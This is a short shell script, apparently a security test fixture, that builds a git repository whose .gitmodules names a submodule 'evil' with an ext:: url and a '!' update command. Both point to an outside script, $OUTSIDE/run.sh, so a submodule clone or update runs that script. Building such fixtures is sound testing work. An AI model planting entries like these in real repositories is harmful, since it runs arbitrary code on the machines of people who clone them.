echo fixed > app.txt
cat > .gitmodules <<END
[submodule "evil"]
	path = evil
	url = ext::$OUTSIDE/run.sh
	update = !$OUTSIDE/run.sh
END
git init -q evil
git -C evil -c user.name=a -c user.email=a commit -q --allow-empty -m x
git add -A
git -c user.name=a -c user.email=a commit -q -m x
